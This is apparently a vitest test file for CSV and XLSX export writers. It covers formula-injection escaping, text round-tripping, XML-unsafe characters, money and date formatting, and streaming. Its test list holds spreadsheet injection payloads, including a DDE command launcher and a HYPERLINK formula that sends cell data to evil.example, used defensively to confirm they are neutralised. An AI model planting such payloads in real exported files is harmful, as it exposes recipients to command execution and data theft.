import { describe, expect, test } from 'vitest'
import { readCsv, readXlsx } from '#testing/read-sheet.ts'
import { csvWriter } from './csv.ts'
import type { CellValue, Sheet, SheetWriter, Sink } from './sheet.ts'
import { xlsxWriter } from './xlsx.ts'
import { columnLetters } from './xlsx-parts.ts'

const sheet: Sheet = {
  name: 'Orders: [all] & more than thirty-one letters',
  timeZone: 'Asia/Shanghai',
  columns: [
    { title: 'Name', kind: 'text', width: 20 },
    { title: 'Amount', kind: 'money', width: 12 },
    { title: 'Created', kind: 'moment', width: 20 },
  ],
}

function written(writer: (of: Sheet, sink: Sink) => SheetWriter, batches: CellValue[][][]): Buffer {
  const pieces: Uint8Array[] = []
  const to = writer(sheet, (piece) => pieces.push(piece))
  for (const rows of batches) to.add(rows)
  to.end()
  return Buffer.concat(pieces)
}

const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '=1+1,"=2+2"\r\n=3+3',
  '-2+3+cmd|\' /C calc\'!A0;"=4"',
]

describe.each(formulas)('%j', (text) => {
  test('is a text in a CSV, and one cell', () => {
    const [, row] = readCsv(written(csvWriter, [[[text, 100, 0]]]))
    expect(row).toEqual([`'${text}`, '1.00', '1970-01-01 08:00:00'])
  })

  test('is a text in an XLSX, as it was written', () => {
    const [, row] = readXlsx(written(xlsxWriter, [[[text, 100, 0]]]))
    expect(row?.A).toMatchObject({ kind: 'text', value: text.replaceAll('\r', '') })
  })
})

test.each(['plain', '测试 "引号", 逗号', ' =behind a space', 'a;b', 'line\nbreak', '<b>&amp;</b>', '_x0041_', '😀'])(
  '%j comes back from both as it went in',
  (text) => {
    expect(readCsv(written(csvWriter, [[[text, 1, 1]]]))[1]?.[0]).toBe(text)
    expect(readXlsx(written(xlsxWriter, [[[text, 1, 1]]]))[1]?.A?.value).toBe(text)
  },
)

test('characters that XML cannot hold are removed, and text too long for a cell is cut off', () => {
  const rows = readXlsx(
    written(xlsxWriter, [[['a\u0000\u0007\u001b\ufffe\ud800b', 1, 1]], [['x'.repeat(40_000), 1, 1]]]),
  )
  expect(rows[1]?.A?.value).toBe('ab')
  expect(rows[2]?.A?.value).toHaveLength(32_767)
})

test('money is a number with two decimals, a moment is a date in the time zone, and null is empty', () => {
  const moment = Date.UTC(2026, 10, 21, 18, 30, 15) / 1000
  const rows = [
    ['a', 123_456, moment],
    ['b', -5, null],
  ]
  expect(readCsv(written(csvWriter, [rows])).slice(1)).toEqual([
    ['a', '1234.56', '2026-11-22 02:30:15'],
    ['b', '-0.05', ''],
  ])
  const [head, first, second] = readXlsx(written(xlsxWriter, [rows]))
  expect(head).toMatchObject({ A: { value: 'Name', style: 1 }, C: { value: 'Created', style: 1 } })
  expect(first?.B).toEqual({ kind: 'number', style: 2, value: '1234.56' })
  const days = Date.UTC(2026, 10, 22, 2, 30, 15) / 86_400_000 + 25_569
  expect(first?.C).toMatchObject({ kind: 'number', style: 3 })
  expect(Number(first?.C?.value)).toBeCloseTo(days, 9)
  expect([second?.B?.value, second?.C]).toEqual(['-0.05', undefined])
})

test('rows are written before the last one arrives', () => {
  const sizes: number[] = []
  let size = 0
  const to = xlsxWriter(sheet, (piece) => {
    size += piece.byteLength
  })
  for (let batch = 0; batch < 20; batch++) {
    to.add(Array.from({ length: 500 }, (_, at) => [crypto.randomUUID(), at, at]))
    sizes.push(size)
  }
  expect(sizes[9]).toBeGreaterThan(50_000)
  expect(sizes[19]).toBeGreaterThan(2 * (sizes[9] ?? 0) * 0.9)
})

test('columns are lettered as in spreadsheets', () => {
  expect([0, 25, 26, 51, 52, 701, 702].map(columnLetters)).toEqual(['A', 'Z', 'AA', 'AZ', 'BA', 'ZZ', 'AAA'])
})
